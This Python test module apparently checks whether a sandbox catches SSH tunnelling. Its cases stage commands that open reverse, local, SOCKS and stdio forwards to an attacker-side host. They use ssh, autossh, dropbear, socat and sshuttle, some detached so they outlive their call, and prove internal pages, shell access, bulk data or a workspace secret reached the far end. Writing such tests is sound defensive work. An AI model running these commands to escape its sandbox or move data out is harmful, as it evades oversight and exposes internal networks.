# SPDX-License-Identifier: Apache-2.0
"""Tunnels by ssh: every way to ask for one, none of it on the command line, and every kind of traffic in it."""

import time

import lib_far as far
import lib_net as net
from lib_case import case

PAGE = b"inside 10.20.0.11"


def reverse(c, *config, start="./worker -F config x & ", port=22, inner=far.INNER + ":80"):
    """A call opens ssh -R as the configuration has it; returns the address at which the far end finds the inner one."""
    far.sshd(c, port)
    far.ssh_config(c, "RemoteForward %s:8000 %s" % (c.far, inner), *config, port=port)
    c.tool("ssh")
    c.call("ls")
    c.attack(start + c.until_done())
    c.call("true")
    c.begin()
    return far.forwarded(c)


def browse(c, where, pages=6, pause=0.6):
    for _ in range(pages):
        c.mark()
        with net.connect("far", *where) as s:
            body = net.http_get(s)
        c.prove(PAGE in body, "the far end read a page of the internal network")
        time.sleep(pause)


@case("tunnel", seconds=8, quick=True)
def ssh_R(c):
    """ssh -R in the foreground, to an internal web server"""
    browse(c, reverse(c, "SessionType none"))


@case("tunnel", seconds=8)
def ssh_R_f(c):
    """ssh -f -R: it goes to the background by itself and outlives its call"""
    far.sshd(c)
    far.ssh_config(c, "RemoteForward %s:8000 %s:80" % (c.far, far.INNER), "SessionType none", "ForkAfterAuthentication yes")
    c.tool("ssh")
    c.attack("./worker -F config x")
    c.call("true")
    c.call(c.until_done())
    c.begin()
    browse(c, far.forwarded(c))


@case("tunnel", seconds=9)
def ssh_R_control(c):
    """a ControlMaster that call 1 starts; call 2 asks it for the forward"""
    far.sshd(c)
    far.ssh_config(c, "ControlPath /work/socket", "ControlMaster auto", "ControlPersist yes")
    c.tool("ssh")
    c.attack("./worker -F config -f -N x")
    c.partner("./worker -F config -O forward -R %s:8000:%s:80 x" % (c.far, far.INNER))
    c.call(c.until_done())
    c.begin()
    browse(c, far.forwarded(c))


@case("tunnel", seconds=75)
def ssh_R_idle(c):
    """a minute of silence before the far end uses it"""
    where = reverse(c, "SessionType none")
    time.sleep(60)
    browse(c, where)


@case("tunnel", seconds=14, quick=True)
def ssh_R_interactive(c):
    """nothing but a person at an inner machine's shell"""
    far.shell_server(c, 2300 + c.number)
    where = reverse(c, "SessionType none", inner="%s:%d" % (far.INNER_SHELL, 2300 + c.number))
    with net.connect("far", *where) as s:
        c.mark()
        seen = far.type_commands(s, ["id", "hostname", "ls /", "uptime"])
    c.prove(b"uid=" in seen, "the far end's keys ran commands on an inner machine")


@case("tunnel", seconds=9)
def ssh_R_bulk(c):
    """nothing but one big copy out of the internal network"""
    where = reverse(c, "SessionType none")
    with net.connect("far", *where) as s:
        c.mark()
        body = net.http_get(s, "/bytes/20000000")
    c.prove(len(body) == 20000000, "20 MB of the internal network reached the far end")


@case("tunnel", seconds=8)
def ssh_R_loopback(c):
    """the inner service is the call's own, on the sandbox's loopback"""
    far.sshd(c, 443)
    far.ssh_config(c, "RemoteForward %s:8000 127.0.0.1:8000" % c.far, "SessionType none", port=443)
    word = far.secret(c)
    c.tool("ssh")
    c.attack("python3 -m http.server --bind 127.0.0.1 8000 >/dev/null 2>&1 & ./worker -F config x & " + c.until_done())
    c.begin()
    far.forwarded(c)
    time.sleep(1)
    for _ in range(5):
        with net.connect("far", c.far, 8000) as s:
            c.mark()
            c.prove(word in net.http_get(s, "/notes.txt"), "the far end read a file of the workspace")
        time.sleep(0.7)


@case("tunnel", seconds=12)
def ssh_R_late(c):
    """started in call 4, silent until call 9 runs"""
    far.sshd(c)
    far.ssh_config(c, "RemoteForward %s:8000 %s:80" % (c.far, far.INNER), "SessionType none")
    c.tool("ssh")
    for i in range(1, 10):
        if i == 4:
            c.attack("(setsid ./worker -F config x >/dev/null 2>&1 </dev/null &)")
        elif i == 9:
            c.call("touch ninth; " + c.until_done())
        else:
            c.call("sleep 0.3; ls -l")
    c.begin()
    c.exists("ninth", 20)
    browse(c, far.forwarded(c), pages=5)


def serve_far_page(c, port=8000):
    """A service of the attacker's network behind its sshd; returns what it was asked."""
    asked = []

    def handle(s):
        asked.append(net.read_until(s, b"\r\n\r\n"))
        s.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 300000\r\n\r\n" + b"x" * 300000)

    far.serve(c, port, handle, address="127.0.0.%d" % c.number)
    return asked


def fetch(c, asked, times=5):
    c.wait_for(lambda: asked, 15, "a request through the tunnel")
    c.mark()
    c.wait_for(lambda: len(asked) >= times, 20, "%d requests through the tunnel" % times)
    c.prove(True, "%d requests came out of the far sshd" % times)


@case("tunnel", seconds=8, quick=True)
def ssh_L(c):
    """ssh -L: the sandbox reaches, through the far end, what its policy would not show"""
    asked = serve_far_page(c)
    far.sshd(c)
    far.ssh_config(c, "LocalForward 9000 127.0.0.%d:8000" % c.number, "SessionType none")
    c.tool("ssh")
    c.attack("./worker -F config x & sleep 0.7; for i in 1 2 3 4 5; do curl -s --retry 9 --retry-connrefused http://127.0.0.1:9000/ | wc -c; sleep 0.5; done; kill %1")
    c.begin()
    fetch(c, asked)


@case("tunnel", seconds=8)
def ssh_D(c):
    """ssh -D -f: SOCKS in one call, used by the next"""
    asked = serve_far_page(c)
    far.sshd(c)
    far.ssh_config(c, "DynamicForward 9000", "SessionType none", "ForkAfterAuthentication yes")
    c.tool("ssh")
    c.attack("./worker -F config x")
    c.partner("for i in 1 2 3 4 5; do curl -s --retry 9 --retry-connrefused --socks5 127.0.0.1:9000 http://127.0.0.%d:8000/ | wc -c; sleep 0.5; done" % c.number)
    c.begin()
    fetch(c, asked)


@case("tunnel", seconds=9)
def autossh_R(c):
    """autossh, which starts ssh again when it ends: here the far end cuts it once"""
    far.sshd(c)
    far.ssh_config(c, "RemoteForward %s:8000 %s:80" % (c.far, far.INNER), "SessionType none", "ServerAliveInterval 2")
    c.tool("ssh")
    c.tool("autossh", "keeper")
    c.attack("AUTOSSH_PATH=/work/worker AUTOSSH_GATETIME=0 AUTOSSH_PORT=0 ./keeper -F config x & " + c.until_done())
    c.begin()
    browse(c, far.forwarded(c))


@case("tunnel", seconds=9)
def dropbear_R(c):
    """dropbear's client, another implementation: -R"""
    dropbear(c, "-N -R %s:8000:%s:80" % (c.far, far.INNER))
    c.begin()
    browse(c, far.forwarded(c))


@case("tunnel", seconds=9)
def dropbear_L(c):
    """dropbear's client: -L, used by another call"""
    asked = serve_far_page(c)
    dropbear(c, "-f -N -L 9000:127.0.0.%d:8000" % c.number)
    c.partner("for i in 1 2 3 4 5; do curl -s --retry 9 --retry-connrefused http://127.0.0.1:9000/ | wc -c; sleep 0.5; done")
    c.begin()
    fetch(c, asked)


def dropbear(c, words):
    far.sshd(c)
    far.ssh_key(c)
    c.tool("dbclient")
    c.call("dropbearconvert openssh dropbear key dkey >/dev/null 2>&1")
    tail = " >/dev/null 2>&1" if "-f" in words else " & " + c.until_done()
    c.attack("./worker -y -y -T -i dkey %s root@%s%s" % (words, c.far, tail))


@case("tunnel", seconds=8)
def ssh_W(c):
    """ssh -W as the far half of a listener inside, as ProxyCommand and sshuttle's own transport have it: over a pipe"""
    asked = serve_far_page(c)
    far.sshd(c)
    far.ssh_config(c, "ControlMaster auto", "ControlPath /work/socket", "ControlPersist yes")
    c.tool("ssh")
    c.tool("socat", "listener")
    c.attack("./listener TCP-LISTEN:9000,fork,reuseaddr EXEC:'./worker -F config -W 127.0.0.%d\\:8000 x' >/dev/null 2>&1 & sleep 0.5" % c.number)
    c.partner("for i in 1 2 3 4 5; do curl -s --retry 9 --retry-connrefused http://127.0.0.1:9000/ | wc -c; sleep 0.5; done")
    c.begin()
    fetch(c, asked)


@case("tunnel", seconds=10)
def sshuttle(c):
    """sshuttle: its firewall is refused; its server and its multiplexer over ssh work without"""
    asked = serve_far_page(c)
    far.sshd(c)
    far.ssh_config(c)
    c.tool("ssh")
    c.tool("shuttle.py", "worker.py")
    whole = c.call("timeout 5 sshuttle -e './worker -F config' -r x 10.77.0.0/16 2>&1; echo $?")
    c.attack("(python3 worker.py 9000 127.0.0.%d 8000 >/work/log 2>&1 &) ; sleep 2" % c.number)
    c.partner("for i in 1 2 3 4 5; do curl -s --retry 9 --retry-connrefused http://127.0.0.1:9000/ | wc -c; sleep 0.5; done")
    c.begin()
    fetch(c, asked)
    c.replay.wait(30)
    c.prove(not c.output(whole).endswith("\n0\n"), "sshuttle as a whole did not begin")
